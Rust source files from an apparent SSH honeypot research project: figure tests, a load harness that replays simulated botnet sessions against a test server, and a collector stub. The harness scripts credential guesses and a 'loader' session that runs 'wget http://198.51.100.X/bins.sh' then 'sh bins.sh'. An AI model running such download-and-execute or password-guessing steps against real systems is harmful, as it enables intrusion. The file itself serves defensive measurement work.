        let cl = Classifier::table1();
        let f = fig14(&ds().sessions, &cl, 5);
        assert!(f.labels.len() > 10, "categories found: {}", f.labels.len());
        let n = f.labels.len();
        let mut diag = 0.0;
        let mut off = 0.0;
        let mut off_n = 0u64;
        for i in 0..n {
            diag += f.matrix[i][i];
            for j in 0..n {
                assert_eq!(f.matrix[i][j], f.matrix[j][i]);
                if i != j {
                    off += f.matrix[i][j];
                    off_n += 1;
                }
            }
        }
        // Within-category variation must be clearly below between-category
        // distance (the Fig. 14 block structure).
        let diag_mean = diag / n as f64;
        let off_mean = off / off_n as f64;
        assert!(
            diag_mean * 2.0 < off_mean,
            "diag {diag_mean} vs off-diag {off_mean}"
        );
    }

    #[test]
    fn fig15_snippet_is_redacted() {
        let snip = fig15_snippet(&ds().sessions).expect("curl_maxred sessions exist");
        assert!(snip.contains("curl"));
        assert!(snip.contains("<X.X.X.X>"));
        assert!(
            !snip.contains("203.0.113."),
            "target must be redacted: {snip}"
        );
    }

    #[test]
    fn coverage_exceeds_99_percent() {
        let cl = Classifier::table1();
        let cov = classification_coverage(&ds().sessions, &cl);
        assert!(cov > 0.99, "coverage {cov}");
    }

    #[test]
    fn fig16_missing_outnumbers_exists_late() {
        let f = fig16(&ds().sessions);
        let m23: u64 = f
            .iter()
            .filter(|(m, _)| m.year == 2023)
            .map(|(_, (_, missing))| *missing)
            .sum();
        let e23: u64 = f
            .iter()
            .filter(|(m, _)| m.year == 2023)
            .map(|(_, (exists, _))| *exists)
            .sum();
        assert!(m23 > e23, "2023 unique missing {m23} vs exists {e23}");
    }

    #[test]
    fn renders_do_not_panic_and_mention_key_rows() {
        let cl = Classifier::table1();
        let stats = TaxonomyStats::compute(&ds().sessions);
        let s = render_dataset_stats(&stats, ds().config.session_scale);
        assert!(s.contains("scouting"));
        let f1 = render_fig1(&fig1(&ds().sessions));
        assert!(f1.contains("2022-03"));
        let f2 = fig2(&ds().sessions, &cl);
        let r2 = f2.render("Fig 2", 3);
        assert!(r2.contains("echo_OK"));
        let ca = cluster_analysis(&ds().sessions, &ds().abuse, 8, 5);
        let r5 = render_fig5(&ca, 8);
        assert!(r5.contains("C1"));
    }
}
