//! `barrage` — the load harness behind `honeylab barrage`: replays
//! botnet-archetype sessions against a live server over real sockets.
//!
//! Two load models, mirroring the measurement literature:
//!
//! * **Closed loop** — N concurrent clients, each starting its next
//!   session a think-time after the previous one finishes. Offered
//!   load adapts to the server; this measures saturation throughput.
//! * **Open loop** — a target arrival *rate* with Poisson interarrivals
//!   (the renewal process `netsim::faults` already samples), issued on
//!   schedule regardless of completions; this measures behavior at a
//!   fixed offered load, where queueing delay and shed rate live.
//!
//! The schedule is built up front by [`build_schedule`] — a pure
//! function of the config, so the same seed always replays the same
//! session mix at the same offsets (the determinism the bench and the
//! tier-1 smoke pin). Workers drive non-blocking sockets through the
//! same [`crate::reactor::Poller`] the server's shards use, and measure
//! whole-session latency into a log-bucketed histogram (p50/p99/p999
//! without storing per-session samples).

use crate::reactor::{conn_interest, Interest, Poller};
use netsim::faults::exp_sample;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use sshwire::{ClientScript, SshClient};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

/// How sessions are issued.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum LoadMode {
    /// N concurrent clients, think-time between a client's sessions.
    Closed {
        /// Concurrent session slots across the whole run.
        concurrency: usize,
        /// Pause between a slot's completion and its next session.
        think: Duration,
    },
    /// Target sessions/sec with Poisson interarrivals.
    Open {
        /// Mean arrival rate (sessions per second).
        rate: f64,
    },
}

/// Load-harness configuration.
#[derive(Debug, Clone)]
pub struct BarrageConfig {
    /// SSH address of the server under test.
    pub addr: SocketAddr,
    /// Total sessions to replay.
    pub sessions: usize,
    /// Closed- or open-loop issue discipline.
    pub mode: LoadMode,
    /// Seed for the schedule (mix, credentials, arrival offsets).
    pub seed: u64,
    /// Client worker threads (each runs its own poller).
    pub workers: usize,
    /// Per-session wall-clock budget before the client gives up.
    pub session_deadline: Duration,
    /// Cap on sockets in flight across all workers (fd budget).
    pub max_in_flight: usize,
}

impl Default for BarrageConfig {
    fn default() -> Self {
        BarrageConfig {
            addr: SocketAddr::from(([127, 0, 0, 1], 22)),
            sessions: 1_000,
            mode: LoadMode::Closed {
                concurrency: 64,
                think: Duration::ZERO,
            },
            seed: 42,
            workers: 4,
            session_deadline: Duration::from_secs(30),
            max_in_flight: 512,
        }
    }
}

/// One planned session: what to say and (open loop) when to start.
/// Plain data with `PartialEq`, so the determinism property is
/// directly assertable; converted to a wire script at launch time.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SessionPlan {
    /// Arrival offset from the run start, microseconds (0 in closed loop).
    pub offset_micros: u64,
    /// Archetype label (scanner / scout / intruder / command bot …).
    pub archetype: &'static str,
    /// `true`: connect, read the banner, hang up — no SSH spoken.
    pub banner_only: bool,
    /// Login username.
    pub username: String,
    /// Password list tried in order.
    pub passwords: Vec<String>,
    /// Commands executed after a successful login.
    pub commands: Vec<String>,
    /// Disconnect right after auth succeeds (login-only intrusion).
    pub hangup_after_auth: bool,
}

impl SessionPlan {
    fn script(&self) -> ClientScript {
        let mut script = ClientScript::new(
            &self.username,
            &self
                .passwords
                .iter()
                .map(String::as_str)
                .collect::<Vec<_>>(),
            &self.commands.iter().map(String::as_str).collect::<Vec<_>>(),
        );
        script.hangup_after_auth = self.hangup_after_auth;
        script
    }
}

/// Builds the deterministic session schedule: same config ⇒ same plans,
/// byte for byte. The mix mirrors the paper's dominant archetypes:
/// scanners that never speak SSH, credential scouts that fail and
/// leave, login-only intruders (the `3245gs5662d34` pattern), and
/// command bots (echo-probe, uname fingerprint, loader drops).
pub fn build_schedule(cfg: &BarrageConfig) -> Vec<SessionPlan> {
    let mut rng = StdRng::seed_from_u64(cfg.seed);
    let mut offset = 0.0f64;
    let mut plans = Vec::with_capacity(cfg.sessions);
    for _ in 0..cfg.sessions {
        let offset_micros = match cfg.mode {
            LoadMode::Closed { .. } => 0,
            LoadMode::Open { rate } => {
                offset += exp_sample(1.0 / rate.max(1e-9), &mut rng);
                (offset * 1e6) as u64
            }
        };
        let roll: u32 = rng.random_range(0..100);
        let plan = if roll < 35 {
            // Port scanner: connect, grab the banner, hang up.
            SessionPlan {
                offset_micros,
                archetype: "scanner",
                banner_only: true,
                username: String::new(),
                passwords: Vec::new(),
                commands: Vec::new(),
                hangup_after_auth: false,
            }
        } else if roll < 55 {
            // Credential scout: every guess fails, then disconnects.
            // (Only root/phil ever authenticate, so any other username
            // is guaranteed to exhaust its list.)
            let user = ["admin", "user", "test", "oracle", "postgres"][rng.random_range(0..5usize)];
            let n = rng.random_range(1..=3usize);
            let pool = ["123456", "password", "admin", "1234", "root", "qwerty"];
            let passwords = (0..n)
                .map(|_| pool[rng.random_range(0..pool.len())].to_string())
                .collect();
            SessionPlan {
                offset_micros,
                archetype: "scout",
                banner_only: false,
                username: user.to_string(),
                passwords,
                commands: Vec::new(),
                hangup_after_auth: false,
            }
        } else if roll < 70 {
            // Login-only intruder: authenticate, run nothing, leave.
            SessionPlan {
                offset_micros,
                archetype: "intruder",
                banner_only: false,
                username: "root".to_string(),
                passwords: vec![format!("pw{}", rng.random_range(0..10_000u32))],
                commands: Vec::new(),
                hangup_after_auth: true,
            }
        } else if roll < 90 {
            // Command bot: echo probe or uname fingerprint.
            let commands = match rng.random_range(0..3u32) {
                0 => vec!["echo OK".to_string()],
                1 => vec!["uname -a".to_string()],
                _ => vec!["uname -a".to_string(), "nproc".to_string()],
            };
            SessionPlan {
                offset_micros,
                archetype: "command_bot",
                banner_only: false,
                username: "root".to_string(),
                passwords: vec![format!("pw{}", rng.random_range(0..10_000u32))],
                commands,
                hangup_after_auth: false,
            }
        } else {
            // Loader: stage a dropper via the shell.
            SessionPlan {
                offset_micros,
                archetype: "loader",
                banner_only: false,
                username: "root".to_string(),
                passwords: vec![format!("pw{}", rng.random_range(0..10_000u32))],
                commands: vec![
                    "cd /tmp".to_string(),
                    format!(
                        "wget http://198.51.100.{}/bins.sh",
                        rng.random_range(1..255u32)
                    ),
                    "sh bins.sh".to_string(),
                ],
                hangup_after_auth: false,
            }
        };
        plans.push(plan);
    }
    plans
}

// ---------------------------------------------------------------------------
// Latency histogram: log-bucketed (32 linear sub-buckets per power of
// two), microsecond values. ~1.5 KiB of counters per worker, ≤3 %
// quantile error — no per-session allocation.
// ---------------------------------------------------------------------------

const HIST_SUB: u64 = 32;
const HIST_BUCKETS: usize = 60 * HIST_SUB as usize;

/// Log-bucketed latency histogram over microsecond values.
#[derive(Clone)]
pub struct LatencyHistogram {
    counts: Vec<u64>,
    total: u64,
    max: u64,
}

impl Default for LatencyHistogram {
    fn default() -> Self {
        LatencyHistogram {
            counts: vec![0; HIST_BUCKETS],
            total: 0,
            max: 0,
        }
    }
}

fn bucket_index(v: u64) -> usize {
    if v < HIST_SUB {
        return v as usize;
    }
    let msb = 63 - u64::from(v.leading_zeros());
    let shift = msb - 5;
    let sub = (v >> shift) - HIST_SUB;
    ((shift + 1) * HIST_SUB + sub) as usize
}

fn bucket_upper(idx: usize) -> u64 {
    let idx = idx as u64;
    if idx < HIST_SUB {
        return idx;
    }
    let shift = idx / HIST_SUB - 1;
    let sub = idx % HIST_SUB;
    (HIST_SUB + sub + 1) << shift
}

impl LatencyHistogram {
    /// Records one microsecond-valued sample.
    pub fn record(&mut self, micros: u64) {
        let idx = bucket_index(micros).min(HIST_BUCKETS - 1);
        self.counts[idx] += 1;
        self.total += 1;
        self.max = self.max.max(micros);
    }

    /// Merges another histogram into this one.
    pub fn merge(&mut self, other: &LatencyHistogram) {
        for (a, b) in self.counts.iter_mut().zip(&other.counts) {
            *a += b;
        }
        self.total += other.total;
        self.max = self.max.max(other.max);
    }

    /// Samples recorded.
    pub fn total(&self) -> u64 {
        self.total
    }

    /// The `q`-quantile (0 < q ≤ 1) in microseconds — an upper bound of
    /// the containing bucket, capped at the observed max.
    pub fn quantile(&self, q: f64) -> u64 {
        if self.total == 0 {
            return 0;
        }
        let target = ((q * self.total as f64).ceil() as u64).clamp(1, self.total);
        let mut seen = 0u64;
        for (idx, &c) in self.counts.iter().enumerate() {
            seen += c;
            if seen >= target {
                return bucket_upper(idx).min(self.max);
            }
        }
        self.max
    }

    /// Largest sample recorded, microseconds.
    pub fn max(&self) -> u64 {
        self.max
    }
}

// ---------------------------------------------------------------------------
// The run loop.
// ---------------------------------------------------------------------------

/// Outcome of a barrage run, with the same render/api_json discipline
/// as [`crate::ServeReport`].
#[derive(Debug, Clone)]
pub struct BarrageReport {
    /// `"closed"` or `"open"`.
    pub mode: String,
    /// Sessions in the schedule.
    pub planned: u64,
    /// Sessions that completed their dialogue.
    pub completed: u64,
    /// Sessions the server shed (closed before a single byte).
    pub shed: u64,
    /// Sessions that failed mid-dialogue (reset, protocol error,
    /// connect failure).
    pub errors: u64,
    /// Sessions abandoned at the client-side deadline.
    pub timeouts: u64,
    /// Open loop only: arrivals issued >100ms behind schedule (the
    /// generator, not the server, fell behind).
    pub late_starts: u64,
    /// Wall-clock of the whole run, seconds.
    pub duration_secs: f64,
    /// Offered load (open: the configured rate; closed: == achieved).
    pub offered_sps: f64,
    /// Completed sessions per second of wall-clock.
    pub achieved_sps: f64,
    /// Median session latency, milliseconds.
    pub p50_ms: f64,
    /// 99th-percentile session latency, milliseconds.
    pub p99_ms: f64,
    /// 99.9th-percentile session latency, milliseconds.
    pub p999_ms: f64,
    /// Worst session latency, milliseconds.
    pub max_ms: f64,
    /// Bytes received from the server.
    pub bytes_in: u64,
    /// Bytes sent to the server.
    pub bytes_out: u64,
    /// Schedule seed, for replay.
    pub seed: u64,
}

impl BarrageReport {
    /// One-line-per-fact text rendering for the CLI.
    pub fn render(&self) -> String {
        format!(
            "barrage: mode={} planned={} completed={} shed={} errors={} timeouts={} late_starts={}\n\
             load: offered={:.1}/s achieved={:.1}/s duration={:.2}s\n\
             latency: p50={:.2}ms p99={:.2}ms p999={:.2}ms max={:.2}ms\n\
             bytes: in={} out={} seed={}",
            self.mode,
            self.planned,
            self.completed,
            self.shed,
            self.errors,
            self.timeouts,
            self.late_starts,
            self.offered_sps,
            self.achieved_sps,
            self.duration_secs,
            self.p50_ms,
            self.p99_ms,
            self.p999_ms,
            self.max_ms,
            self.bytes_in,
            self.bytes_out,
            self.seed,
        )
    }

    /// The v1 document (envelope kind `"barrage_report"`).
    pub fn api_json(&self) -> hutil::Json {
        use hutil::Json;
        hutil::api_envelope(
            "barrage_report",
            Json::obj([
                ("mode", Json::str(&self.mode)),
                ("planned", Json::u64(self.planned)),
                ("completed", Json::u64(self.completed)),
                ("shed", Json::u64(self.shed)),
                ("errors", Json::u64(self.errors)),
                ("timeouts", Json::u64(self.timeouts)),
                ("late_starts", Json::u64(self.late_starts)),
                ("duration_secs", Json::Num(self.duration_secs)),
                ("offered_sps", Json::Num(self.offered_sps)),
                ("achieved_sps", Json::Num(self.achieved_sps)),
                ("p50_ms", Json::Num(self.p50_ms)),
                ("p99_ms", Json::Num(self.p99_ms)),
                ("p999_ms", Json::Num(self.p999_ms)),
                ("max_ms", Json::Num(self.max_ms)),
                ("bytes_in", Json::u64(self.bytes_in)),
                ("bytes_out", Json::u64(self.bytes_out)),
                ("seed", Json::u64(self.seed)),
            ]),
        )
    }

    /// Deterministic sample document for the `docs/api_v1` goldens.
    pub fn sample() -> Self {
        BarrageReport {
            mode: "open".to_string(),
            planned: 10_000,
            completed: 9_990,
            shed: 10,
            errors: 0,
            timeouts: 0,
            late_starts: 0,
            duration_secs: 10.05,
            offered_sps: 1_000.0,
            achieved_sps: 994.0,
            p50_ms: 0.75,
            p99_ms: 2.5,
            p999_ms: 6.0,
            max_ms: 11.25,
            bytes_in: 4_100_000,
            bytes_out: 3_900_000,
            seed: 42,
        }
    }
}

/// One in-flight client session.
struct Flight {
    stream: TcpStream,
    client: Option<SshClient>,
    pending_out: Vec<u8>,
    got_any: bool,
    started: Instant,
    armed: Interest,
}

enum FlightEnd {
    Completed,
    Shed,
    Error,
}

impl Flight {
    /// Non-blocking pump, mirroring the server's `Conn::pump` shape.
    fn pump(
        &mut self,
        buf: &mut [u8],
        bytes_in: &mut u64,
        bytes_out: &mut u64,
    ) -> Option<FlightEnd> {
        loop {
            let mut progress = false;
            if let Some(client) = &mut self.client {
                let chunk = client.take_output();
                if !chunk.is_empty() {
                    self.pending_out.extend_from_slice(&chunk);
                    progress = true;
                }
            }
            while !self.pending_out.is_empty() {
                match self.stream.write(&self.pending_out) {
                    Ok(0) => return Some(self.eof_end()),
                    Ok(n) => {
                        self.pending_out.drain(..n);
                        *bytes_out += n as u64;
                        progress = true;
                    }
                    Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => break,
                    Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
                    Err(_) => return Some(self.eof_end()),
                }
            }
            match self.stream.read(buf) {
                Ok(0) => return Some(self.eof_end()),
                Ok(n) => {
                    self.got_any = true;
                    *bytes_in += n as u64;
                    progress = true;
                    match &mut self.client {
                        Some(client) => {
                            if client.input(&buf[..n]).is_err() {
                                return Some(FlightEnd::Error);
                            }
                        }
                        // Banner-only scanner: any byte completes it.
                        None => return Some(FlightEnd::Completed),
                    }
                }
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
                Err(_) => return Some(self.eof_end()),
            }
            if !progress {
                break;
            }
        }
        if let Some(client) = &self.client {
            if client.is_closed() && self.pending_out.is_empty() {
                return Some(FlightEnd::Completed);
            }
        }
        None
    }

    /// Classifies an EOF/reset: before any byte it is a shed (admission
    /// control closed us at the door); after the dialogue closed it is
    /// a completion; in the middle it is an error.
    fn eof_end(&self) -> FlightEnd {
        let dialogue_done = match &self.client {
            None => true, // banner-only: any bytes at all is a success
            Some(client) => client.is_closed(),
        };
        if !self.got_any {
            FlightEnd::Shed
        } else if dialogue_done {
            FlightEnd::Completed
        } else {
            FlightEnd::Error
        }
    }
}

/// Per-worker tallies, merged into the report at the end.
#[derive(Default)]
struct WorkerTally {
    completed: u64,
    shed: u64,
    errors: u64,
    timeouts: u64,
    late_starts: u64,
    bytes_in: u64,
    bytes_out: u64,
    hist: LatencyHistogram,
}

/// Runs the barrage against a live server and reports.
pub fn run(cfg: &BarrageConfig) -> Result<BarrageReport, String> {
    if !crate::reactor::poller_supported() {
        return Err("barrage needs a readiness API (unix only)".to_string());
    }
    if cfg.sessions == 0 {
        return Err("nothing to do: sessions == 0".to_string());
    }
    let workers = cfg.workers.clamp(1, cfg.sessions);
    let plans = build_schedule(cfg);
    let next = AtomicUsize::new(0);
    let seq = AtomicU64::new(0);
    let t0 = Instant::now();

    let tallies: Vec<WorkerTally> = std::thread::scope(|scope| {
        let mut handles = Vec::new();
        for w in 0..workers {
            let plans = &plans;
            let next = &next;
            let seq = &seq;
            handles.push(scope.spawn(move || worker_loop(w, workers, cfg, plans, next, seq, t0)));
        }
        handles
            .into_iter()
            .map(|h| match h.join() {
                Ok(Ok(tally)) => tally,
                Ok(Err(_)) | Err(_) => WorkerTally::default(),
            })
            .collect()
    });

    let duration = t0.elapsed().as_secs_f64().max(1e-9);
    let mut total = WorkerTally::default();
    for t in &tallies {
        total.completed += t.completed;
        total.shed += t.shed;
        total.errors += t.errors;
        total.timeouts += t.timeouts;
        total.late_starts += t.late_starts;
        total.bytes_in += t.bytes_in;
        total.bytes_out += t.bytes_out;
        total.hist.merge(&t.hist);
    }
    let achieved = total.completed as f64 / duration;
    let (mode, offered) = match cfg.mode {
        LoadMode::Closed { .. } => ("closed", achieved),
        LoadMode::Open { rate } => ("open", rate),
    };
    let ms = |q: f64| total.hist.quantile(q) as f64 / 1_000.0;
    Ok(BarrageReport {
        mode: mode.to_string(),
        planned: plans.len() as u64,
        completed: total.completed,
        shed: total.shed,
        errors: total.errors,
        timeouts: total.timeouts,
        late_starts: total.late_starts,
        duration_secs: duration,
        offered_sps: offered,
        achieved_sps: achieved,
        p50_ms: ms(0.50),
        p99_ms: ms(0.99),
        p999_ms: ms(0.999),
        max_ms: total.hist.max() as f64 / 1_000.0,
        bytes_in: total.bytes_in,
        bytes_out: total.bytes_out,
        seed: cfg.seed,
    })
}

/// Slot bookkeeping for closed-loop mode: each worker owns a share of
/// the concurrency budget. `ready_at` holds only *available* slots;
/// a launch consumes one, and every session end (complete, shed,
/// error, timeout, even a failed connect) returns it after the think
/// time — so slots can never leak.
struct ClosedSlots {
    ready_at: Vec<Instant>,
    think: Duration,
}

impl ClosedSlots {
    fn replenish(&mut self) {
        self.ready_at.push(Instant::now() + self.think);
    }
}

fn slot_back(closed: &mut Option<ClosedSlots>) {
    if let Some(slots) = closed {
        slots.replenish();
    }
}

#[allow(clippy::too_many_arguments)]
fn worker_loop(
    w: usize,
    workers: usize,
    cfg: &BarrageConfig,
    plans: &[SessionPlan],
    next: &AtomicUsize,
    seq: &AtomicU64,
    t0: Instant,
) -> Result<WorkerTally, String> {
    let mut poller = Poller::new().map_err(|e| format!("poller: {e}"))?;
    let mut tally = WorkerTally::default();
    let mut flights: Vec<Option<Flight>> = Vec::new();
    let mut free: Vec<usize> = Vec::new();
    let mut in_flight = 0usize;
    let mut events = Vec::new();
    let mut buf = vec![0u8; 16 * 1024];
    let mut last_sweep = Instant::now();

    // Closed loop: this worker's slice of the concurrency budget.
    // Open loop: a plain in-flight cap from the fd budget.
    let mut closed = match cfg.mode {
        LoadMode::Closed { concurrency, think } => {
            let share = (concurrency / workers) + usize::from(w < concurrency % workers);
            let share = share.max(usize::from(w == 0));
            if share == 0 {
                // Fewer slots than workers: this worker has nothing to do.
                return Ok(tally);
            }
            Some(ClosedSlots {
                ready_at: vec![Instant::now(); share],
                think,
            })
        }
        LoadMode::Open { .. } => None,
    };
    let cap = match &closed {
        Some(c) => c.ready_at.len(),
        None => (cfg.max_in_flight / workers).max(1),
    };

    loop {
        // Launch phase: claim every plan we are allowed to start now.
        let mut next_due: Option<Instant> = None;
        loop {
            if in_flight >= cap {
                break;
            }
            let now = Instant::now();
            match &mut closed {
                Some(slots) => {
                    // A slot must be ready (think time elapsed).
                    let Some(pos) = slots.ready_at.iter().position(|&t| t <= now) else {
                        next_due = slots.ready_at.iter().min().copied();
                        break;
                    };
                    let i = next.fetch_add(1, Ordering::AcqRel);
                    if i >= plans.len() {
                        break;
                    }
                    slots.ready_at.swap_remove(pos);
                    if !launch(
                        &plans[i],
                        cfg,
                        seq,
                        &mut poller,
                        &mut flights,
                        &mut free,
                        &mut in_flight,
                        &mut tally,
                    ) {
                        // Never took off: the slot comes straight back.
                        slots.replenish();
                    }
                }
                None => {
                    // Open loop: claim the next plan only once due.
                    let i = next.load(Ordering::Acquire);
                    if i >= plans.len() {
                        break;
                    }
                    let due = t0 + Duration::from_micros(plans[i].offset_micros);
                    if now < due {
                        next_due = Some(due);
                        break;
                    }
                    if next
                        .compare_exchange(i, i + 1, Ordering::AcqRel, Ordering::Acquire)
                        .is_err()
                    {
                        continue; // another worker took it; retry
                    }
                    if now.duration_since(due) > Duration::from_millis(100) {
                        tally.late_starts += 1;
                    }
                    launch(
                        &plans[i],
                        cfg,
                        seq,
                        &mut poller,
                        &mut flights,
                        &mut free,
                        &mut in_flight,
                        &mut tally,
                    );
                }
            }
        }

        if in_flight == 0 && next.load(Ordering::Acquire) >= plans.len() {
            return Ok(tally);
        }

        // Park until IO readiness or the next scheduled arrival.
        let now = Instant::now();
        let timeout = match next_due {
            Some(due) => due
                .saturating_duration_since(now)
                .min(Duration::from_millis(10)),
            None => Duration::from_millis(10),
        };
        if poller.wait(timeout, &mut events).is_err() {
            events.clear();
        }
        for ev in &events {
            pump_flight(
                ev.token as usize,
                cfg,
                &mut poller,
                &mut flights,
                &mut free,
                &mut in_flight,
                &mut tally,
                &mut closed,
                &mut buf,
            );
        }

        // Deadline sweep, amortized.
        if last_sweep.elapsed() >= Duration::from_millis(25) {
            last_sweep = Instant::now();
            for (i, slot) in flights.iter_mut().enumerate() {
                let expired = matches!(
                    slot.as_ref(),
                    Some(f) if f.started.elapsed() >= cfg.session_deadline
                );
                if expired {
                    let f = slot.take().expect("checked above");
                    #[cfg(unix)]
                    {
                        use std::os::unix::io::AsRawFd;
                        let _ = poller.deregister(f.stream.as_raw_fd());
                    }
                    tally.timeouts += 1;
                    free.push(i);
                    in_flight -= 1;
                    slot_back(&mut closed);
                    drop(f);
                }
            }
        }
    }
}

/// Starts one session: connect, wrap, register, first pump. Returns
/// `true` if a flight is now in the table (and will release its slot
/// on completion); `false` if the session ended immediately.
#[allow(clippy::too_many_arguments)]
fn launch(
    plan: &SessionPlan,
    cfg: &BarrageConfig,
    seq: &AtomicU64,
    poller: &mut Poller,
    flights: &mut Vec<Option<Flight>>,
    free: &mut Vec<usize>,
    in_flight: &mut usize,
    tally: &mut WorkerTally,
) -> bool {
    let started = Instant::now();
    let stream = match TcpStream::connect_timeout(&cfg.addr, cfg.session_deadline) {
        Ok(s) => s,
        Err(_) => {
            tally.errors += 1;
            return false;
        }
    };
    if stream.set_nonblocking(true).is_err() {
        tally.errors += 1;
        return false;
    }
    let _ = stream.set_nodelay(true);
    let client = if plan.banner_only {
        None
    } else {
        let n = seq.fetch_add(1, Ordering::Relaxed);
        Some(SshClient::new(plan.script(), n.to_le_bytes().to_vec()))
    };
    let mut flight = Flight {
        stream,
        client,
        pending_out: Vec::new(),
        got_any: false,
        started,
        armed: Interest::READ,
    };
    // First pump sends the client's version banner.
    if let Some(end) = flight.pump(&mut [0u8; 4096], &mut tally.bytes_in, &mut tally.bytes_out) {
        settle(tally, end, started);
        return false;
    }
    let i = free.pop().unwrap_or_else(|| {
        flights.push(None);
        flights.len() - 1
    });
    flight.armed = conn_interest(!flight.pending_out.is_empty());
    #[cfg(unix)]
    {
        use std::os::unix::io::AsRawFd;
        if poller
            .register(flight.stream.as_raw_fd(), i as u64, flight.armed)
            .is_err()
        {
            tally.errors += 1;
            free.push(i);
            return false;
        }
    }
    flights[i] = Some(flight);
    *in_flight += 1;
    true
}

/// Pumps one flight by table index; settles and frees it if finished.
#[allow(clippy::too_many_arguments)]
fn pump_flight(
    i: usize,
    cfg: &BarrageConfig,
    poller: &mut Poller,
    flights: &mut [Option<Flight>],
    free: &mut Vec<usize>,
    in_flight: &mut usize,
    tally: &mut WorkerTally,
    closed: &mut Option<ClosedSlots>,
    buf: &mut [u8],
) {
    let _ = cfg;
    let Some(flight) = flights.get_mut(i).and_then(Option::as_mut) else {
        return;
    };
    match flight.pump(buf, &mut tally.bytes_in, &mut tally.bytes_out) {
        Some(end) => {
            let f = flights[i].take().expect("checked above");
            #[cfg(unix)]
            {
                use std::os::unix::io::AsRawFd;
                let _ = poller.deregister(f.stream.as_raw_fd());
            }
            settle(tally, end, f.started);
            free.push(i);
            *in_flight -= 1;
            slot_back(closed);
        }
        None => {
            let want = conn_interest(!flight.pending_out.is_empty());
            if want != flight.armed {
                #[cfg(unix)]
                {
                    use std::os::unix::io::AsRawFd;
                    let _ = poller.reregister(flight.stream.as_raw_fd(), i as u64, want);
                }
                flight.armed = want;
            }
        }
    }
}

/// Books a finished session into the tally.
fn settle(tally: &mut WorkerTally, end: FlightEnd, started: Instant) {
    match end {
        FlightEnd::Completed => {
            tally.completed += 1;
            tally
                .hist
                .record(started.elapsed().as_micros().min(u128::from(u64::MAX)) as u64);
        }
        FlightEnd::Shed => tally.shed += 1,
        FlightEnd::Error => tally.errors += 1,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cfg(seed: u64, mode: LoadMode) -> BarrageConfig {
        BarrageConfig {
            sessions: 500,
            seed,
            mode,
            ..BarrageConfig::default()
        }
    }

    #[test]
    fn schedule_is_deterministic_for_a_seed() {
        for mode in [
            LoadMode::Closed {
                concurrency: 8,
                think: Duration::ZERO,
            },
            LoadMode::Open { rate: 1_000.0 },
        ] {
            let a = build_schedule(&cfg(7, mode));
            let b = build_schedule(&cfg(7, mode));
            assert_eq!(a, b, "same seed must produce the same schedule");
            let c = build_schedule(&cfg(8, mode));
            assert_ne!(a, c, "a different seed must change the schedule");
        }
    }

    #[test]
    fn open_loop_offsets_are_monotone_and_poisson_scaled() {
        let plans = build_schedule(&cfg(42, LoadMode::Open { rate: 2_000.0 }));
        let mut prev = 0u64;
        for p in &plans {
            assert!(p.offset_micros >= prev, "arrivals must be ordered");
            prev = p.offset_micros;
        }
        // 500 arrivals at 2000/s ≈ 250ms of schedule; allow wide slack
        // for the exponential tail.
        let last = plans.last().unwrap().offset_micros;
        assert!(
            (50_000..2_000_000).contains(&last),
            "mean interarrival is wildly off: last offset {last}µs"
        );
    }

    #[test]
    fn closed_loop_offsets_are_zero() {
        let plans = build_schedule(&cfg(
            42,
            LoadMode::Closed {
                concurrency: 8,
                think: Duration::ZERO,
            },
        ));
        assert!(plans.iter().all(|p| p.offset_micros == 0));
    }

    #[test]
    fn schedule_covers_the_archetype_mix() {
        let plans = build_schedule(&BarrageConfig {
            sessions: 2_000,
            ..BarrageConfig::default()
        });
        for kind in ["scanner", "scout", "intruder", "command_bot", "loader"] {
            assert!(
                plans.iter().any(|p| p.archetype == kind),
                "mix must include {kind}"
            );
        }
        // Scanners never carry credentials; intruders hang up after auth.
        for p in &plans {
            if p.banner_only {
                assert!(p.passwords.is_empty() && p.commands.is_empty());
            }
            if p.archetype == "intruder" {
                assert!(p.hangup_after_auth && p.commands.is_empty());
            }
            if p.archetype == "scout" {
                // Scout credentials must actually fail (determinism of
                // the shed/complete accounting depends on it).
                assert_ne!(p.username, "root");
                assert_ne!(p.username, "phil");
            }
        }
    }

    #[test]
    fn histogram_quantiles_bracket_the_samples() {
        let mut h = LatencyHistogram::default();
        for v in 1..=1_000u64 {
            h.record(v);
        }
        assert_eq!(h.total(), 1_000);
        let p50 = h.quantile(0.50);
        let p99 = h.quantile(0.99);
        assert!((450..=600).contains(&p50), "p50 {p50} out of range");
        assert!((950..=1_024).contains(&p99), "p99 {p99} out of range");
        assert_eq!(h.max(), 1_000);
        // Log-bucket error stays bounded (~3%+1 bucket).
        let mut big = LatencyHistogram::default();
        big.record(1_000_000);
        assert!(big.quantile(0.5) <= 1_000_000);
    }

    #[test]
    fn histogram_merge_adds_counts() {
        let mut a = LatencyHistogram::default();
        let mut b = LatencyHistogram::default();
        a.record(10);
        b.record(20);
        b.record(1_000_000);
        a.merge(&b);
        assert_eq!(a.total(), 3);
        assert_eq!(a.max(), 1_000_000);
    }

    #[test]
    fn report_render_and_api_json_agree() {
        let r = BarrageReport::sample();
        let text = r.render();
        assert!(text.contains("mode=open"));
        assert!(text.contains("completed=9990"));
        let doc = r.api_json();
        assert_eq!(
            doc.get("kind").and_then(hutil::Json::as_str),
            Some("barrage_report")
        );
        let data = doc.get("data").unwrap();
        assert_eq!(
            data.get("planned").and_then(hutil::Json::as_i64),
            Some(10_000)
        );
        assert_eq!(
            data.get("offered_sps").and_then(hutil::Json::as_f64),
            Some(1_000.0)
        );
    }
}
