//! The central collector (paper §3.2).
//!
//! Every honeypot forwards a closed session to the collector, which
//! assigns a dense session id and appends it to the honeynet database. The
//! collector is shared across generator threads, hence the lock; analysis
//! runs on the frozen, chronologically sorted store.

use crate::record::SessionRecord;
use parking_lot::Mutex;

/// Thread-safe session sink.
#[derive(Debug, Default)]
pub struct Collector {
    inner: Mutex<Vec<SessionRecord>>,
}

impl Collector {
    /// An empty collector.
    pub fn new() -> Self {
        Self::default()
    }

    /// Ingests one closed session, assigning its id. Returns the id.
